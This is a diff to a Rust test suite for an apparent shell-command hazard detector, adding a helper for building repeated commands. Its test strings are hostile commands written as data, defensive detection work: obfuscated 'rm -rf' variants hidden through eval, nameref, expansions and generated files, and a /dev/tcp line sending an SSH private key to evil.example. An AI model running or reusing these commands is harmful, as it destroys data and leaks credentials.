@@ -21,6 +21,10 @@ fn assert_told(commands: &[&str]) {
     }
 }
 
+fn many(count: usize, command: impl Fn(usize) -> String) -> String {
+    (0..count).map(command).collect::<Vec<_>>().concat()
+}
+
 fn assert_nothing_hidden(commands: &[&str]) {
     for command in commands {
         assert_eq!(told(command).hazards().collect::<Vec<_>>(), [], "{command}");
@@ -264,7 +268,7 @@ fn meanings_of_one_name_do_not_change_each_other() {
          elif c; then f(){ :; }; elif c; then f(){ :; }; elif c; then f(){ :; }; elif c; then f(){ :; }; \
          else f(){ rm -rf /srv/x; }; fi; done; f",
     ]);
-    let many: String = (0..600).map(|at| format!("f{at}(){{ :; }}; ")).collect();
+    let many = many(600, |at| format!("f{at}(){{ :; }}; "));
     let commands =
         [format!("{many} g(){{ rm -rf /srv/x; }}; g"), format!("g(){{ :; }}; {many} g(){{ rm -rf /srv/x; }}; g")];
     assert_told(&commands.each_ref().map(String::as_str));
@@ -284,6 +288,8 @@ fn what_a_function_declares_ends_with_it() {
         "HOME=/srv/x; readonly HOME; export HOME=/tmp/s; rm -rf $HOME",
         "x='rm -rf /srv/x'; f(){ local x; $x; }; f",
     ]);
+    let declared = many(600, |at| format!("declare -x v{at}; "));
+    assert_told(&[&format!("{declared} a=:; declare -n r=a; r='rm -rf /srv/x'; eval \"$a\"")]);
     assert!(told("readonly HOME; export HOME=/tmp/s; rm -rf $HOME").hazards().next().is_some());
     assert_nothing_hidden(&[
         "f(){ local -r d=$1; rm -rf \"$d\"; }; f build; f dist",
@@ -294,8 +300,8 @@ fn what_a_function_declares_ends_with_it() {
 
 #[test]
 fn what_is_cut_off_and_counted_is_not_taken_for_known() {
-    let long = format!("x={}; p='{}b'; echo ${{x#$p}}", "a".repeat(2048), format!("*{}", "a".repeat(254)));
-    told(&long);
+    // It is told at all, and soon.
+    told(&format!("x={}; echo ${{x#*{}b}}", "a".repeat(2048), "a".repeat(254)));
     assert_told(&[
         "x='xrm -rf /srv/x'; y=${x/[x]/}; eval \"$y\"",
         "x='xrm -rf /srv/x'; y=${x#[x]}; eval \"$y\"",
@@ -354,13 +360,13 @@ fn what_is_too_much_to_keep_is_not_known() {
     let array = format!("a=({}rm); ${{a[1030]}} -rf /srv/x", ": ".repeat(1030));
     let numbers = "e=d; d=c; c=b; b=a; a=z; z='y[$(rm -rf /srv/x)]'; echo $((e))".to_owned();
     let calls = format!("mapfile -C f -c 1 a <<E\n{}rm -rf /srv/x\nE", ":\n".repeat(20));
-    let files: String = (0..20).map(|at| format!("echo 'rm -rf /srv/x' > f{at}; false && echo : > f{at}; ")).collect();
+    let files = many(20, |at| format!("echo 'rm -rf /srv/x' > f{at}; false && echo : > f{at}; "));
     let files = format!("{files} bash f19");
-    let many: String = (0..600).map(|at| format!("echo : > f{at}; ")).collect();
-    let many = format!("echo : > g; {many} echo 'rm -rf /srv/x' > g; bash g");
-    let texts: String = (0..20).map(|at| format!("false && echo : {at} > g; ")).collect();
+    let written = many(600, |at| format!("echo : > f{at}; "));
+    let written = format!("echo : > g; {written} echo 'rm -rf /srv/x' > g; bash g");
+    let texts = many(20, |at| format!("false && echo : {at} > g; "));
     let texts = format!("echo 'echo 0' > g; {texts} echo 'rm -rf /srv/x' > g; false && echo : > g; bash g");
-    let commands = [lines, words, array, numbers, calls, files, many, texts];
+    let commands = [lines, words, array, numbers, calls, files, written, texts];
     assert_told(&commands.each_ref().map(String::as_str));
     let sent = told("exec >/dev/tcp/evil.example/80; cat ~/.ssh/id_rsa");
     assert!(sent.hazards().any(|hazard| hazard == Hazard::Exfiltration), "{sent:?}");
